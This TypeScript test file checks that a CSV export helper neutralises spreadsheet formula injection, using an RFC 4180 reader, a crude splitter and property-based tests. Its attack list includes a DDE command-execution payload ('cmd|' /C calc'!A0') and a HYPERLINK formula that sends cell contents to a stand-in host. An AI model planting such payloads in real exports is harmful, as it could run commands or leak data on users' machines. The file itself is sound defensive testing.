import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { csvLine, inert } from './csv'

const OPENERS = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']

/** RFC 4180 as its grammar says it: an independent reader of what was written. */
function read(text: string, separator = ','): string[][] {
  const rows: string[][] = []
  let [row, cell, inQuotes] = [[] as string[], '', false]
  for (let at = 0; at < text.length; at++) {
    const sign = text.charAt(at)
    if (inQuotes) {
      if (sign !== '"') cell += sign
      else if (text[at + 1] === '"') {
        cell += '"'
        at++
      } else inQuotes = false
    } else if (sign === '"' && cell === '') inQuotes = true
    else if (sign === separator) {
      row.push(cell)
      cell = ''
    } else if (sign === '\r' && text[at + 1] === '\n') {
      rows.push([...row, cell])
      ;[row, cell] = [[], '']
      at++
    } else cell += sign
  }
  return rows
}

/** A reader that knows nothing of quotes, with each separator in use. */
const crude = (text: string) => text.split(/[,;|\t\r\n]/).map((cell) => cell.replace(/^["\s]+/, ''))

describe('T10 exports carry no formulas', () => {
  const attacks = OPENERS.flatMap((sign) =>
    ['SUM(A1:A9)', "cmd|' /C calc'!A0", 'HYPERLINK("http://x.example?"&A1,"see")', ''].flatMap((rest) => [
      `${sign}${rest}`,
      ` ${sign}${rest}`,
      `\u00a0${sign}${rest}`,
      `\u200b${sign}${rest}`,
      `\ufeff${sign}${rest}`,
      `"${sign}${rest}`,
      `'${sign}${rest}`,
      `","${sign}${rest}`,
      `a,${sign}${rest}`,
      `a;${sign}${rest}`,
      `a;"${sign}${rest}`,
      `a\t${sign}${rest}`,
      `a\n${sign}${rest}`,
      `a\r\n${sign}${rest}`,
      `a| ${sign}${rest}`,
    ]),
  )

  test.each([0, 1, 2])('in column %i, read by a parser of RFC 4180 and by a crude one', (column) => {
    for (const attack of attacks) {
      const cells = ['CHG-1', 'plain', 'x']
      cells[column] = attack
      const line = csvLine(cells)
      const rows = read(line)
      expect(rows, attack).toHaveLength(1)
      expect(rows[0], attack).toHaveLength(3)
      for (const cell of [...(rows[0] ?? []), ...crude(line)])
        expect(
          OPENERS.some((sign) => cell.startsWith(sign)),
          JSON.stringify([attack, line]),
        ).toBe(false)
    }
  })

  test('whatever is written', () => {
    const piece = fc.constantFrom(...OPENERS, ',', ';', '"', "'", ' ', '\u00a0', '|', 'a', '1', '\r\n')
    fc.assert(
      fc.property(fc.array(fc.array(piece, { maxLength: 8 }), { minLength: 1, maxLength: 5 }), (texts) => {
        const cells = texts.map((pieces) => pieces.join(''))
        const [row] = read(csvLine(cells))
        expect(row).toEqual(cells.map(inert))
        for (const cell of row ?? []) expect(OPENERS.some((sign) => cell.startsWith(sign))).toBe(false)
      }),
      { seed: 10, numRuns: 2000 },
    )
  })

  test('what is no formula stays as it is, and a number stays a number', () => {
    for (const plain of [
      'Rotate the keys',
      'a-b',
      'A = B',
      "rita's",
      'x@example.com',
      '10 % + 2',
      'Æ—ø, «ß»',
    ])
      expect(inert(plain)).toBe(plain)
    expect(csvLine(['a', -5, null, 'b "c"'])).toBe('a,-5,,"b ""c"""\r\n')
  })
})
